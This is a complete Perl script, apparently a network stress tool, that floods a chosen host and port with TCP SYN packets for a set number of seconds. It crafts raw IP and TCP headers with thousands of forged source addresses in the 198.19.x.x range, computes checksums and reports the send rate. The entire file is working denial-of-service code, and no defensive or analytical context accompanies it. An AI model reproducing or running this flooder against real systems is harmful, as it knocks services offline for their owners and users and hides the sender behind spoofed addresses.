#!/usr/bin/perl
# syn-flood.pl TO PORT SECONDS - first packets of TCP connections from thousands of addresses, as fast as they go.
# Prints how many a second it sent.
use strict;
use warnings;
use Socket qw(inet_aton pack_sockaddr_in AF_INET SOCK_RAW);

my ($to, $port, $seconds) = @ARGV;
my $destination = inet_aton($to);
my @packets = map { syn(pack('C4', 198, 19, int($_ / 256), $_ % 256), 1024 + $_ * 7 % 60000) } 0 .. 16383;

socket(my $raw, AF_INET, SOCK_RAW, 255) or die "socket: $!";    # IPPROTO_RAW: with our own header
my $end = pack_sockaddr_in(0, $destination);
my ($sent, $over) = (0, 0);
$SIG{ALRM} = sub { $over = 1 };
alarm $seconds;
until ($over) { $sent++ if send($raw, $packets[$sent % @packets], 0, $end) }
printf "%d\n", $sent / $seconds;

sub syn {
    my ($source, $from_port) = @_;
    my $tcp = pack('nnNNCCnnn', $from_port, $port, rand(2**32), 0, 5 << 4, 2, 64240, 0, 0);
    substr($tcp, 16, 2) = pack('n', checksum($source . $destination . pack('CCn', 0, 6, 20) . $tcp));
    return pack('CCnnnCCn', 0x45, 0, 40, 0, 0, 64, 6, 0) . $source . $destination . $tcp;    # the kernel sums the header
}

sub checksum {
    my $sum = 0;
    $sum += $_ for unpack('n*', $_[0]);
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}
